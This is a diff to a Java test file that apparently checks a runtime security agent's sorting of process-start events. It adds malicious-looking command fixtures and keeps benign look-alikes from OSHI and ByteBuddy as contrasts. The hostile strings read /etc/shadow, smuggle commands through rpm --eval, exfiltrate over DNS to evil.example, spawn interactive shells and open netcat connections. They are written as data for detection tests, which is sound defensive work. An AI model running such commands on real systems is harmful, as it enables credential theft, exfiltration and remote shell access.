@@ -58,11 +58,20 @@ final class SystemCases {
                           "java.lang.ProcessBuilder.start",
                           "evil.Shell.run",
                           "org.apache.hadoop.fs.RawLocalFileSystem.setPermission"),
-                      started(
-                          "cat /etc/shadow",
-                          "oshi.util.ExecutingCommand.runNative",
-                          "oshi.software.os.linux.LinuxOperatingSystem.x")),
+                      byOshi("cat /etc/shadow"),
+                      byOshi("rpm -qa --pipe /tmp/x"),
+                      byOshi("rpm -qa --eval %(/tmp/x)"),
+                      byOshi("systemctl list-unit-files -H 10.0.0.1"),
+                      byOshi("getent hosts c2VjcmV0.evil.example"),
+                      byByteBuddy("/usr/lib/jvm/21/bin/java -cp /tmp/upload.txt"),
+                      byByteBuddy("/tmp/java -cp /tmp/byteBuddyAttacher1.jar"),
+                      byByteBuddy("/usr/bin/java -cp /tmp/byteBuddyAttacher1.jar:/tmp/x.jar")),
                   List.of(
+                      byOshi("rpm -qa"),
+                      byOshi("getent passwd"),
+                      byOshi("/usr/bin/lscpu -p=cpu,node"),
+                      byByteBuddy("/usr/lib/jvm/21/bin/java -cp /tmp/byteBuddyAttacher123.jar"),
+                      byByteBuddy("/jdk/bin/java -Dx= -cp /lib/byte-buddy-agent-1.17.5.jar"),
                       started(
                           "uname -r",
                           "oshi.util.ExecutingCommand.runNative",
@@ -96,6 +105,11 @@ final class SystemCases {
                           "org.apache.hadoop.security.ShellBasedUnixGroupsMapping.x"),
                       started("/usr/bin/env -i A=b /bin/dash -i"),
                       started("setsid nohup sh"),
+                      started("script -qc bash /dev/null"),
+                      started("/usr/bin/stdbuf -o0 /bin/bash -i"),
+                      started("/lib64/ld-linux-x86-64.so.2 /bin/sh -c id"),
+                      started("find /tmp -maxdepth 0 -exec sh -c id ;"),
+                      started("sudo -n bash"),
                       started("/tmp/busybox nc 10.0.0.1 4444"),
                       started("curl http://evil/"),
                       started("C:\\Windows\\System32\\cmd.exe /c dir"),
@@ -280,6 +294,22 @@ final class SystemCases {
 
   private static AgentEvent started(String command, String... frames) {
     return withStack(EventType.PROCESS_START, List.of(frames), "command", command, "pid", 7L);
+  }
+
+  private static AgentEvent byOshi(String command) {
+    return started(
+        command,
+        "oshi.util.ExecutingCommand.runNative",
+        "oshi.software.os.linux.LinuxOperatingSystem.x");
+  }
+
+  private static AgentEvent byByteBuddy(String java) {
+    return started(
+        java
+            + " net.bytebuddy.agent.Attacher com.sun.tools.attach.VirtualMachine 7"
+            + " /tmp/byteBuddyAgent1.jar false ",
+        "java.lang.ProcessBuilder.start",
+        "net.bytebuddy.agent.ByteBuddyAgent.installExternal");
   }
 
   private static AgentEvent link(String path, String target) {
